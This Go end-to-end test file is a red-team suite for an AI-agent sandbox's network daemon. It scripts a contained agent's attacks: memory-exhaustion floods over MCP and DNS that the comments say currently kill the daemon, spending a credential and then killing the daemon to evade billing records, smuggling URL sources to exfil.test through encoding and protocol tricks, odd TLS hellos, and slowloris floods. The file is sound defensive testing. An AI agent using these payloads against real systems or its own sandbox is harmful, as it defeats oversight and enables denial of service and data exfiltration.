//go:build e2e

package e2e

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"strconv"
	"strings"
	"testing"

	"github.com/aboxhq/abox/e2e/harness"
	"github.com/aboxhq/abox/internal/policy"
)

// The fifth red team: attacks on the model forwarder's body walk and spend records, on the
// listeners' bounds, and on the Encrypted ClientHello refusal.

// checkNetdSurvived fails t when the run ended with netd dead: the run's exit, its summary and
// its record.
func checkNetdSurvived(t *testing.T, h *harness.H, res harness.Result, out string) {
	t.Helper()
	if !res.OK() || strings.Contains(res.Stderr, "netd exited") {
		t.Errorf("the attack ended the run: exit %d\n%s\n%s", res.ExitCode, out, res.Stderr)
	}
	runs := allRunRecords(t, h)
	if len(runs) == 0 {
		t.Fatal("no run record")
	}
	if runs[0].Outcome != "exited" {
		t.Errorf("run outcome %q, want exited", runs[0].Outcome)
	}
}

// TestAttackRedTeam5MCPBodyMemory: the agent opens 64 connections to netd's MCP forwarder (its
// bound) and on each posts a JSON-RPC body announced as 8 MiB (the forwarder's limit per
// request), sends all of it but the last byte, and waits. The forwarder reads each body whole
// into memory (io.ReadAll) before it looks at it, with no deadline on the body and no budget
// across requests as the model forwarder has (C17, C23): 64 x 8 MiB is twice netd's 256 MiB.
// Safe: netd keeps serving (a DNS query after the flood is answered) and the run ends normally.
// Now: within 2 s the kernel's memory cgroup kills netd's serving child (anon-rss ~250 MB,
// "Memory cgroup out of memory" in dmesg), and the run ends netd-died with no counters. The same
// script with the flood left out (the control) ends normally.
func TestAttackRedTeam5MCPBodyMemory(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	h.StartServer("exact.test")
	h.WriteConfig(h.DefaultConfig())
	mcpCustomServers(t, h)
	h.WriteManifest("version: 1\nproject: mcpmem\nprofile: " + h.Profile + "\negress: [exact.test]\nservers: [echo]\n")
	mustAbox(t, h, "up", "--yes")
	mcp := "http://127.0.0.1:" + strconv.Itoa(policy.MCPPort) + "/mcp"
	dns := "127.0.0.1:" + strconv.Itoa(policy.DNSPort)
	script := bashLines(
		`echo "before $(claude net dns `+dns+` exact.test)"`,
		`head -c 8388607 /dev/zero | tr '\0' ' ' > /tmp/body`,
		`for i in $(seq 64); do curl -s -o /dev/null -m 40 -H 'content-type: application/json' -H 'accept: application/json, text/event-stream' `+
			`-H 'expect:' -H 'content-length: 8388608' --data-binary @/tmp/body `+mcp+` & done`,
		`sleep 25`,
		`echo "after $(claude net dns `+dns+` exact.test)"`,
		`wait`)
	res := h.Abox("run", script)
	out := agentOutput(res.Stdout)
	checkNetdSurvived(t, h, res, out)
	got := probes(t, out)
	probesOK(t, got, "before", "after")
}

// TestAttackRedTeam5DNSUDPFlood: the agent floods netd's resolver over UDP with 20,000 A
// queries a second, for 15 s, for one allowed name that Docker's resolver does not know (as
// every internet name is: Docker forwards it as root, which the ruleset refuses, and netd asks
// the host's resolvers after 0.8 s), without waiting for the answers. The UDP listener has no
// bound (R18 bounds the TCP one only): miekg/dns starts a goroutine per datagram, and each
// holds its upstream socket and state for the 0.8 s and more that the question takes upstream.
// Safe: netd keeps serving (a query after the flood is answered) and the run ends normally.
// Now: within 6 s the kernel's memory cgroup kills netd's serving child and the run ends
// netd-died. The same flood of a name Docker answers at once (exact.test), or of nowhere.test at
// 5,000 a second, leaves netd alive (the agent's own queries time out during the flood).
func TestAttackRedTeam5DNSUDPFlood(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	h.StartServer("exact.test")
	upProject(t, h, "dnsflood5", []string{"exact.test", "nowhere.test"}, "")
	dns := "127.0.0.1:" + strconv.Itoa(policy.DNSPort)
	res := h.Abox("run", bashLines(
		`echo "before $(claude net dns `+dns+` exact.test)"`,
		`echo "flood $(claude net rt5-udpflood `+dns+` nowhere.test 20000 15)"`,
		`sleep 5`,
		`echo "after $(claude net dns `+dns+` exact.test)"`))
	out := agentOutput(res.Stdout)
	checkNetdSurvived(t, h, res, out)
	probesOK(t, probes(t, out), "before", "flood", "after")
}

// TestAttackRedTeam5SpendThenKillNetd: in injected mode the agent sends a long non-streamed
// request (the stand-in answers it after 30 s), then kills netd itself with the resolver flood
// of TestAttackRedTeam5DNSUDPFlood while the upstream works on it, to spend the credential with
// no record. The in-flight record written before the request left is in netd's log volume:
// the run's summary and `abox logs --runs --json` count the request as may have been billed,
// whether the flood kills netd (today) or not (then the agent's curl gives up first, which is
// the same record).
func TestAttackRedTeam5SpendThenKillNetd(t *testing.T) {
	t.Parallel()
	h, api := upInjectedStandin(t, "spendkill", "egress: [nowhere.test]\n")
	dns := "127.0.0.1:" + strconv.Itoa(policy.DNSPort)
	body := `{"model":"claude-test-slow","max_tokens":64000,"messages":[{"role":"user","content":"write a very long essay"}]}`
	res := h.Abox("run", bashLines(
		`curl -s -m 25 -o /dev/null -H 'content-type: application/json' --data-binary '`+body+`' http://127.0.0.1:`+
			strconv.Itoa(policy.ModelPort)+`/v1/messages &`,
		`sleep 3`,
		`claude net rt5-udpflood `+dns+` nowhere.test 20000 15`,
		`wait`))
	reached := false
	for _, r := range api.Requests(t) {
		reached = reached || strings.HasPrefix(r.Answer, "received")
	}
	if !reached {
		t.Fatalf("the API never received the request: the test proves nothing\n%s", res.Stderr)
	}
	if !strings.Contains(res.Stderr, "1 sent with no usage seen: may have been billed") {
		t.Errorf("the run summary does not count the request as spent:\n%s", res.Stderr)
	}
	runs := allRunRecords(t, h)
	if len(runs) != 1 || runs[0].Model == nil || runs[0].Model.Requests != 1 || runs[0].Model.MayHaveBeenBilled != 1 {
		t.Errorf("logs --runs --json: %+v; want 1 request that may have been billed", runs)
	}
	t.Logf("outcome %s", runs[0].Outcome)
}

// TestAttackRedTeam5ModelBodyReadings: in injected mode the agent sends the model forwarder a
// URL source naming exfil.test in every shape it could hope netd reads differently from the
// API (the stand-in fetches every {"type":"url","url":…} of a body it can parse, as the API's
// servers do): gzip-compressed and labelled so, chunked, behind a UTF-8 BOM, nested 500 deep
// (under netd's 512) in a member the API ignores, with escaped key and value, in an array where
// an object goes, beside a huge number, behind a legitimate request on the same connection
// (pipelined), with an HTTP/2 upgrade, over HTTP/2 with prior knowledge, and to the paths and
// methods the API fetches on beside the Messages API (batches, files, complete, dot segments,
// an escaped path, PUT). None reaches exfil.test and the API never sees its name; the
// legitimate request of the pipelined pair is answered.
func TestAttackRedTeam5ModelBodyReadings(t *testing.T) {
	t.Parallel()
	h, api := upInjectedStandin(t, "modelread5", "")
	exfil := h.StartServer("exfil.test")
	src := func(n int) string {
		return `{"type":"image","source":{"type":"url","url":"http://exfil.test/i.png?d=case` + strconv.Itoa(n) + `"}}`
	}
	msg := func(extra, content string) string {
		return `{"model":"claude-test-1","max_tokens":16,` + extra + `"messages":[{"role":"user","content":[` + content + `]}]}`
	}
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte(msg("", src(1))))
	zw.Close()
	deep := strings.Repeat("[", 500) + src(4) + strings.Repeat("]", 500)
	legit := msg("", `{"type":"text","text":"hi"}`)
	bad := msg("", src(8))
	pipelined := "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: " + strconv.Itoa(len(legit)) +
		"\r\n\r\n" + legit +
		"POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: " + strconv.Itoa(len(bad)) +
		"\r\nConnection: close\r\n\r\n" + bad
	cases := []struct {
		name, method, path, curl string
		body                     []byte
	}{
		{"gzip", "POST", "/v1/messages", "-H 'content-encoding: gzip'", gz.Bytes()},
		{"chunked", "POST", "/v1/messages", "-H 'transfer-encoding: chunked'", []byte(msg("", src(2)))},
		{"bom", "POST", "/v1/messages", "", []byte("\xef\xbb\xbf" + msg("", src(3)))},
		{"deep", "POST", "/v1/messages", "", []byte(msg(`"metadata":{"x":`+deep+`},`, `{"type":"text","text":"hi"}`))},
		{"escaped", "POST", "/v1/messages", "", []byte(msg("", `{"\u0074ype":"image","source":{"\u0074ype":"\u0075rl","url":"http://exfil.test/?d=case5"}}`))},
		{"array", "POST", "/v1/messages", "", []byte(msg("", `{"type":"image","source":[{"type":"url","url":"http://exfil.test/?d=case6"}]}`))},
		{"hugenum", "POST", "/v1/messages", "", []byte(`{"model":"claude-test-1","max_tokens":16,"temperature":1e999,"messages":[{"role":"user","content":[` + src(7) + `]}]}`)},
		{"upgrade", "POST", "/v1/messages", "--http2", []byte(msg("", src(9)))},
		{"h2prior", "POST", "/v1/messages", "--http2-prior-knowledge", []byte(msg("", src(10)))},
		{"batches", "POST", "/v1/messages/batches", "", []byte(`{"requests":[{"custom_id":"a","params":` + msg("", src(11)) + `}]}`)},
		{"files", "POST", "/v1/files", "", []byte(msg("", src(12)))},
		{"complete", "POST", "/v1/complete", "", []byte(msg("", src(13)))},
		{"dots", "POST", "/v1/messages/../messages/batches", "--path-as-is", []byte(msg("", src(14)))},
		{"escpath", "POST", "/v1/messages%2Fbatches", "--path-as-is", []byte(msg("", src(15)))},
		{"query", "POST", "/v1/messages?beta=true&url=http://exfil.test/", "", []byte(msg("", src(16)))},
		{"put", "PUT", "/v1/messages", "", []byte(msg("", src(17)))},
		{"modelspost", "POST", "/v1/models", "", []byte(msg("", src(18)))},
	}
	port := strconv.Itoa(policy.ModelPort)
	var lines []string
	for _, c := range cases {
		lines = append(lines,
			`echo `+base64.StdEncoding.EncodeToString(c.body)+` | base64 -d > /tmp/`+c.name,
			`echo "`+c.name+` $(curl -s -m 10 -o /dev/null -w '%{http_code}' -X `+c.method+` -H 'content-type: application/json' `+c.curl+
				` --data-binary @/tmp/`+c.name+` 'http://127.0.0.1:`+port+c.path+`')"`)
	}
	lines = append(lines,
		`echo `+base64.StdEncoding.EncodeToString([]byte(pipelined))+` | base64 -d > /tmp/pipelined`,
		`exec 3<>/dev/tcp/127.0.0.1/`+port+` && cat /tmp/pipelined >&3 && echo "pipelined $(timeout 10 cat <&3 | grep -a '^HTTP/1.1' | tr -d '\r' | tr '\n' ' ')"`)
	res := h.Abox("run", bashLines(lines...))
	out := agentOutput(res.Stdout)
	if !res.OK() {
		t.Fatalf("abox run: %s", res)
	}
	t.Logf("agent:\n%s", out)
	for _, c := range cases {
		if strings.Contains(out, c.name+" 200") {
			t.Errorf("%s: the forwarder answered 200", c.name)
		}
	}
	if !strings.Contains(out, "pipelined HTTP/1.1 200 OK HTTP/1.1 403") {
		t.Errorf("the pipelined pair: want the legitimate request answered and the URL source refused:\n%s", out)
	}
	if ev := h.Traffic(exfil.Container); len(ev) != 0 {
		t.Errorf("exfil.test was reached through the API: %v", ev)
	}
	for _, r := range api.Requests(t) {
		if strings.Contains(string(r.Body), "exfil.test") || len(r.Fetched) > 0 {
			t.Errorf("the API received a URL source: %s %s %s, fetched %q", r.Method, r.Path, r.Body, r.Fetched)
		}
	}
}

// TestAttackRedTeam5OddHellos: hellos the ECH tests lack, sent to raw.test (which logs every
// byte it receives) on the fast path and through the TLS proxy: a TLS 1.3 resumption hello
// carrying GREASE-like ECH in the middle and a pre_shared_key with its binder last (the
// extension that must end a hello), the same ECH in a record of version 3.4, and SSLv2's
// compatible hello, which has no extensions and so no server name. Each is refused and raw.test
// receives none of it; crypto/tls's own hello (the control) reaches raw.test on both paths.
func TestAttackRedTeam5OddHellos(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	raw := h.StartServerWith(harness.ServerOptions{Aliases: []string{"raw.test"}, Args: []string{"-https-port", "0", "-raw-ports", "443"}})
	other := h.StartServer("other.test")
	upProject(t, h, "oddhello", []string{"raw.test"}, "")
	proxy := other.IP + ":443" // never resolved: the TLS proxy's path
	var script []string
	for _, v := range []string{"psk", "v34", "sslv2", "plain"} {
		script = append(script,
			`echo "fast-`+v+` $(claude net rt5-hello raw.test:443 raw.test `+v+` 2)"`,
			`echo "proxy-`+v+` $(claude net rt5-hello `+proxy+` raw.test `+v+` 2)"`)
	}
	res := h.Abox("run", bashLines(script...))
	if !res.OK() {
		t.Fatalf("abox run: %s", res)
	}
	got := probes(t, agentOutput(res.Stdout))
	probesOK(t, got, "fast-plain", "proxy-plain")
	probesRefused(t, got, "fast-psk", "proxy-psk", "fast-v34", "proxy-v34", "fast-sslv2", "proxy-sslv2")
	remotes := map[string]bool{}
	for _, ev := range h.Events(raw.Container, "raw-data") {
		remotes[ev.Str("remote")] = true
	}
	if len(remotes) != 2 {
		t.Errorf("raw.test received bytes on %d connections, want only the two plain hellos'", len(remotes))
	}
	var ech int64
	for _, r := range harvested[policy.ConnRecord](t, h, policy.ConnLog) {
		if r.Reason == policy.ReasonECH {
			ech += r.Decisions()
		}
	}
	if ech != 4 {
		t.Errorf("conn.jsonl has %d refusals %q, want the psk and v34 hellos on both paths", ech, policy.ReasonECH)
	}
}

// TestAttackRedTeam5AllListenersAtOnce: in injected mode (no MCP servers) the agent fills
// every bounded listener at once, each connection holding what the listener buffers before it
// decides all but complete, for 30 s, reopened as soon as netd closes it: 2,100 to the TLS
// proxy (a hello record announcing 16 KiB, 16,000 bytes of it sent), 300 to the HTTP proxy
// (60,000 bytes of one header), 150 to the resolver over TCP (a message announcing 64 KiB,
// 60,000 bytes sent), and two model requests of 32 MiB but a byte (the body budget). The
// sum of the bounds fits netd's memory: it keeps serving (a query after the flood is
// answered, and the model forwarder forwards) and the run ends normally.
func TestAttackRedTeam5AllListenersAtOnce(t *testing.T) {
	t.Parallel()
	h, _ := upInjectedStandin(t, "allbounds", "egress: [exact.test]\n")
	h.StartServer("exact.test")
	port := func(p int) string { return "127.0.0.1:" + strconv.Itoa(p) }
	res := h.Abox("run", bashLines(
		`head -c 33554431 /dev/zero | tr '\0' ' ' > /tmp/body`,
		`claude net rt5-slowloris `+port(policy.SNIPort)+` 2100 30 1603013ffb01003ff7 16000 > /tmp/sni &`,
		`claude net rt5-slowloris `+port(policy.HTTPPort)+` 300 30 `+hex.EncodeToString([]byte("GET / HTTP/1.1\r\nHost: exact.test\r\nX-A: "))+` 60000 > /tmp/http &`,
		`claude net rt5-slowloris `+port(policy.DNSPort)+` 150 30 ffff 60000 > /tmp/dns &`,
		`for i in 1 2; do curl -s -o /dev/null -m 35 -H 'content-type: application/json' -H 'expect:' -H 'content-length: 33554432' --data-binary @/tmp/body http://`+port(policy.ModelPort)+`/v1/messages & done`,
		`sleep 20`,
		`echo "during $(claude net dns `+port(policy.DNSPort)+` exact.test)"`,
		`wait`,
		`echo "sni $(cat /tmp/sni)"; echo "http $(cat /tmp/http)"; echo "dns $(cat /tmp/dns)"`,
		`echo "after $(claude net dns `+port(policy.DNSPort)+` exact.test)"`,
		`echo "model $(curl -s -m 10 -o /dev/null -w '%{http_code}' `+port(policy.ModelPort)+`/v1/models)"`))
	out := agentOutput(res.Stdout)
	t.Logf("agent:\n%s", out)
	checkNetdSurvived(t, h, res, out)
	probesOK(t, probes(t, out), "after")
	if !strings.Contains(out, "model 404") { // the stand-in answers the model list 404, through netd
		t.Errorf("the model forwarder does not forward after the flood:\n%s", out)
	}
}
